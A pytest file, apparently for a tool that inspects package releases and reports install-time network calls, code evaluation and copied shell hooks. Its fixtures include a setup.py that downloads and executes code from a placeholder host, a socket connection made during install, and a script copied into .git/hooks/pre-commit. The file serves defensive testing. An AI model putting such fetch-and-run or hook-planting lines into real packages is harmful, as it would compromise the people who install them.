"""Code read from one of the release's own files is that file; other code stays unknown."""

from pathlib import Path

import pytest
from tests.support.inspected import told, uses_of

VERSION = "import socket\nsocket.create_connection(('a.example', 1))\n"
CONNECTS = ("net.connect", "install", "a.example:1")
EVALUATES = ("code.eval", "install", None)


def install_uses(folder: Path, setup: str) -> set[tuple[str, str, str | None]]:
    members = {
        "PKG-INFO": "Name: p\nVersion: 1\n",
        "p/__init__.py": "",
        "p/version.py": VERSION,
        "setup.py": setup,
    }
    return told(uses_of(folder, "p-1.tar.gz", members))


@pytest.mark.parametrize(
    "setup",
    [
        'about = {}\nexec(open("p/version.py").read(), about)\n',
        "import os\nhere = os.path.dirname(__file__)\n"
        'with open(os.path.join(here, "p", "version.py")) as f:\n    exec(f.read())\n',
        'exec(compile(open("p/version.py").read(), "x", "exec"))\n',
        "from pathlib import Path\n"
        'exec((Path(__file__).parent / "p" / "version.py").read_text())\n',
        "import io\ndef read(*a):\n"
        '    with io.open("p/version.py") as f:\n        return f.read()\nexec(read())\n',
        'import runpy\nrunpy.run_path("p/version.py")\n',
    ],
)
def test_its_uses_are_told_and_no_unknown_code(tmp_path: Path, setup: str) -> None:
    uses = install_uses(tmp_path, setup)
    assert CONNECTS in uses
    assert not {use for use in uses if use[0].startswith("code.")}


@pytest.mark.parametrize(
    "setup",
    [
        'import urllib.request as r\nexec(r.urlopen("http://x.example").read())\n',
        'exec(open("/etc/profile.py").read())\n',
        "import sys\nexec(open(sys.argv[1]).read())\n",
    ],
)
def test_code_from_elsewhere_is_told(tmp_path: Path, setup: str) -> None:
    uses = install_uses(tmp_path, setup)
    assert EVALUATES in uses
    assert CONNECTS not in uses


HOOK = '#!/bin/sh\n[ "$SKIP" = 1 ] && exit 0\nsh -e "$1"\n'


def script_uses(folder: Path, copying: str) -> set[tuple[str, str]]:
    """By phase and entry where the uses of a shell script stand that a script may copy."""
    members = {
        "package.json": '{"name": "p", "version": "1.0.0", "type": "module", "main": "index.js"}',
        "hook.sh": HOOK,
        "index.js": 'import fs from "fs"; import path from "path";\n' + copying,
    }
    uses = uses_of(folder, "p-1.0.0.tgz", members)
    return {(use.phase.value, use.entry) for use in uses if use.member == "hook.sh"}


@pytest.mark.parametrize(
    "place",
    [
        'new URL("hook.sh", import.meta.url)',
        'path.join(import.meta.dirname, "hook.sh")',
        'path.join(path.dirname(import.meta.filename), "./hook.sh")',
    ],
)
def test_a_shell_script_that_is_copied_elsewhere_runs_there(tmp_path: Path, place: str) -> None:
    copying = f'export const setUp = (d) => fs.copyFileSync({place}, path.join(d, "_"));'
    assert script_uses(tmp_path, copying) == {("call", "p.setUp()")}


def test_at_import_it_is_only_copied(tmp_path: Path) -> None:
    copying = 'fs.copyFileSync(new URL("hook.sh", import.meta.url), ".git/hooks/pre-commit");'
    assert {phase for phase, _ in script_uses(tmp_path, copying)} == {"call"}


@pytest.mark.parametrize(
    "place", ['"hook.sh"', 'path.join(process.cwd(), "else.sh")', 'new URL("else.sh", d)']
)
def test_what_else_is_copied_is_no_script_of_the_release(tmp_path: Path, place: str) -> None:
    copying = f'export const setUp = (d) => fs.copyFileSync({place}, path.join(d, "_"));'
    assert {phase for phase, _ in script_uses(tmp_path, copying)} == {"build"}
